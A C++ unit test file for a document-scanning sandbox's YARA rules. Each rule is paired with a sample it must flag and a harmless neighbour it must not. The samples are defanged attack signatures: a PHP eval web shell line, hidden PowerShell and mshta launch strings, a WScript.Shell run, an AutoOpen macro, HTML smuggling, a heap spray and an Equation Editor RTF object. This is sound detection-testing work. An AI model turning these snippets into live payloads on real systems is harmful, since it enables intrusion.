// Our own rules, each with what it must find and a neighbour it must not; and files of rules an operator brings.
#include "sandbox/rules/yara_rules.h"

#include <algorithm>
#include <cctype>
#include <fstream>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "sample/pdf_writer.h"
#include "sandbox/rules/own_rules.h"
#include "tests/support/attack_documents.h"
#include "tests/support/judged_bytes.h"
#include "tests/support/temporary_folder.h"

namespace lazaret::sandbox {
namespace {

using namespace std::string_literals;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

struct RuleCase {
  const char* rule;
  std::string hit;
  std::string neighbour;
};

std::string repeated(std::string_view text, int times) {
  std::string out;
  for (int i = 0; i < times; ++i)
    out += text;
  return out;
}

std::vector<RuleCase> rule_cases() {
  return {
      {"lazaret_heap_spray", "x = unescape('" + repeated("%u9090", 30) + "');", "unescape('%u9090%u00e4') of a form"},
      {"lazaret_reader_exploit_calls", "Collab . collectEmailInfo( {msg: x} )",
       "this.collabEmailInfo(x); util.printf('%2d', 1)"},
      {"lazaret_font_matrix_script", "/FontMatrix [1 0 0 1 0 (0\\); inert) ]",
       "/FontMatrix [0.001 0 0 0.001 0 0] /Name (a;)"},
      {"lazaret_powershell_download", "PowerShell -nop -w hidden -c x",
       "The department of power shelled out for a new scanner."},
      {"lazaret_command_chain", "cmd.exe /c start /min mshta x", "cmd /k dir"},
      {"lazaret_living_off_the_land", "mshta.exe \"http://x.example/a\"",
       "mshta is a program of Windows: https://x.example"},
      {"lazaret_script_host", "s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"inert\")",
       "CreateObject(\"WScript.Network\") and a Run of tests"},
      {"lazaret_macro_that_runs_by_itself", "Sub AutoOpen()\n Shell (inert)", "Sub Total()\n Shell of an egg (broken)"},
      {"lazaret_web_shell", "<?php @eval($_POST['x']); ?>", "<?php echo htmlspecialchars($_POST['x']); ?>"},
      {"lazaret_html_smuggling", "b = new Blob([atob(x)]); a.href = URL.createObjectURL(b); a.click()",
       "b = new Blob([x]); a.click()"},
      {"lazaret_equation_object", "{\\rtf1 {\\*\\objdata 0b0000004571756174696f6e2e33}}",
       "{\\rtf1 Equation.3 explained}"},
  };
}

std::string hits_of(const YaraRules& rules, std::string_view bytes) {
  std::vector<std::string> hits;
  YaraScan scan(rules, bytes.size());
  scan.feed(bytes);
  EXPECT_TRUE(scan.end(hits));
  std::string text;
  for (const std::string& hit : hits)
    text.append(text.empty() ? "" : " ").append(hit);
  return text;
}

TEST(OwnRules, EachFindsItsAttackAndNotItsNeighbour) {
  const auto rules = YaraRules::load({});
  ASSERT_TRUE(rules) << rules.error().detail;
  for (const RuleCase& rule : rule_cases()) {
    EXPECT_EQ(hits_of(**rules, "some bytes before " + rule.hit + " and after"), rule.rule);
    EXPECT_EQ(hits_of(**rules, rule.neighbour), "") << rule.rule;
  }
}

TEST(OwnRules, AllHaveATest) {
  const std::string text(own_rules());
  std::size_t count = 0;
  for (std::size_t at = text.find("\nrule "); at != std::string::npos; at = text.find("\nrule ", at + 1))
    ++count;
  EXPECT_EQ(count, rule_cases().size());
}

TEST(OwnRules, KnowTheClassOfTheEquationEditorByItsBytes) {
  const auto rules = YaraRules::load({});
  ASSERT_TRUE(rules) << rules.error().detail;
  EXPECT_EQ(hits_of(**rules, "x\x02\xCE\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46"s), "lazaret_equation_object");
  EXPECT_EQ(hits_of(**rules, "x\x02\xCE\x02\0\0\0\0\1\xC0\0\0\0\0\0\0\x46"s), "");
}

class RuleFiles : public testing::Test {
 protected:
  std::string file(const std::string& name, const std::string& text) {
    const auto path = folder_.path() / name;
    std::ofstream(path) << text;
    return path.string();
  }
  static std::string fault_of(const std::vector<std::string>& files) {
    const auto rules = YaraRules::load(files);
    return rules ? std::string() : rules.error().detail;
  }

 private:
  testing_support::TemporaryFolder folder_;
};

TEST_F(RuleFiles, OfAnOperatorAreUsedBesideOurs) {
  const auto rules = YaraRules::load({file("a.yar", "rule house { strings: $a = \"ward 7\" condition: $a }"),
                                      file("b.yar", "rule house { strings: $a = \"ward 8\" condition: $a }")});
  ASSERT_TRUE(rules) << rules.error().detail;
  EXPECT_EQ(hits_of(**rules, "ward 7"), "house");
  EXPECT_EQ(hits_of(**rules, "ward 8"), "house");
  EXPECT_EQ(hits_of(**rules, rule_cases()[0].hit), "lazaret_heap_spray");
}

// With a file of an operator's beside them, rules are shown everything.
TEST_F(RuleFiles, DoNotChangeWhatOursFind) {
  const auto alone = YaraRules::load({});
  const auto beside = YaraRules::load({file("house.yar", "rule house { condition: false }")});
  ASSERT_TRUE(alone && beside);
  for (const RuleCase& rule : rule_cases()) {
    std::string upper(rule.hit);
    std::ranges::transform(upper, upper.begin(), [](unsigned char c) { return std::toupper(c); });
    std::string wide;
    for (const char c : rule.hit)
      wide.append({c, '\0'});
    for (const std::string& bytes : {rule.hit, upper, wide, rule.neighbour})
      EXPECT_EQ(hits_of(**alone, bytes), hits_of(**beside, bytes)) << rule.rule;
  }
}

TEST_F(RuleFiles, AreRefusedByFileAndLine) {
  EXPECT_THAT(fault_of({file("bad.yar", "rule good { condition: true }\nrule bad { condition: nothing }")}),
              HasSubstr("bad.yar line 2: undefined identifier \"nothing\""));
  EXPECT_THAT(fault_of({file("cut.yar", "rule cut {\n")}), HasSubstr("cut.yar at its end: syntax error"));
  EXPECT_THAT(fault_of({file("module.yar", "import \"pe\"\nrule x { condition: pe.is_dll() }")}),
              HasSubstr("module.yar line 1: unknown module \"pe\""));
  EXPECT_THAT(fault_of({file("include.yar", "include \"/etc/passwd\"\n")}), HasSubstr("include.yar line 1: "));
  EXPECT_EQ(fault_of({"/nowhere/a.yar"}), "/nowhere/a.yar cannot be read");
  EXPECT_THAT(fault_of({"/"}), HasSubstr("cannot be read"));
}

class RulesInDocuments : public testing_support::JudgedBytes {};

TEST_F(RulesInDocuments, AreAskedOfRawAndOfDecodedBytes) {
  const std::string attack = "PowerShell -nop -w hidden";
  EXPECT_EQ(said_of("txt", attack), "malicious: known_attack");
  EXPECT_EQ(judge("txt", attack).rules, std::vector<std::string>{"lazaret_powershell_download"});
  const std::string page =
      testing_support::one_page({.more = {testing_support::stream_body(
                                     "/Filter /FlateDecode", sample::deflate(attack + repeated(" ", 500), 9))}});
  EXPECT_EQ(said_of("pdf", page), "malicious: known_attack");
  EXPECT_EQ(said_of("txt", "A script was written in PowerShell."), "clean");
}

TEST_F(RulesInDocuments, SeeAcrossTheBoundsOfTheirWindows) {
  const std::string attack = "cmd.exe /c start /min mshta x";
  for (const std::size_t before : {32'760UL, 65'510UL, 262'130UL, 262'144UL, 524'280UL, 700'000UL}) {
    EXPECT_EQ(said_of("txt", repeated("x", static_cast<int>(before)) + " " + attack), "malicious: known_attack")
        << before;
  }
}

TEST_F(RulesInDocuments, SeeStringsThatLieFarApartInOneContent) {
  const std::string far = repeated("A quiet night on the ward. ", 40'000);
  const std::string page =
      testing_support::one_page({.more = {testing_support::stream_body(
                                     "/Filter /FlateDecode", sample::deflate("powershell " + far + " -w hidden", 1))}});
  EXPECT_EQ(said_of("pdf", page), "malicious: known_attack");
  EXPECT_EQ(said_of("txt", "powershell " + far + " -w hidden"), "malicious: known_attack");
}

TEST_F(RulesInDocuments, DoNotMixLargeStreams) {
  const std::string far = repeated("A quiet night on the ward. ", 20'000);
  const auto stream = [](const std::string& text) {
    return testing_support::stream_body("/Filter /FlateDecode", sample::deflate(text, 1));
  };
  EXPECT_EQ(said_of("pdf", testing_support::one_page({.more = {stream("powershell " + far), stream("-w hidden")}})),
            "clean");
}

TEST_F(RulesInDocuments, SeeTextInARawStreamThatOnlyClaimsToBeEncoded) {
  const std::string noise = sample::deflate(repeated("ward ", 9000), 9);
  EXPECT_EQ(said_of("pdf", testing_support::one_page(
                               {.more = {testing_support::stream_body("/Filter /FlateDecode",
                                                                      noise + "PowerShell -nop -w hidden" + noise)}})),
            "malicious: known_attack");
}

TEST_F(RuleFiles, MayNameOffsetsAndTheSizeOfTheFile) {
  const auto rules = YaraRules::load({file("a.yar", "rule head { condition: uint16(0) == 0x6177 and filesize > 9 }")});
  ASSERT_TRUE(rules) << rules.error().detail;
  EXPECT_EQ(hits_of(**rules, "ward seven"), "head");
  EXPECT_EQ(hits_of(**rules, "ward 7"), "");
  EXPECT_EQ(hits_of(**rules, "ward " + repeated("seven ", 100'000)), "head");
}

TEST_F(RuleFiles, LieInPagesThatAForkShares) {
  std::string text;
  for (int i = 0; i < 12'000; ++i) {
    text += "rule r" + std::to_string(i) + " { strings: $a = \"ward " + std::to_string(7'000'000 + 7919 * i) +
            "\" condition: $a }\n";
  }
  const auto rules = YaraRules::load({file("many.yar", text)});
  ASSERT_TRUE(rules) << rules.error().detail;
  EXPECT_GT((*rules)->shared_bytes(), 400'000U);
  EXPECT_EQ(hits_of(**rules, "ward 7007919"), "r1");
}

TEST_F(RulesInDocuments, FindNothingInOrdinaryOnes) {
  for (const testing_support::ExpectedDocument& document : testing_support::benign_documents()) {
    EXPECT_THAT(judge("pdf", document.bytes).rules, IsEmpty()) << document.name;
  }
}

}  // namespace
}  // namespace lazaret::sandbox
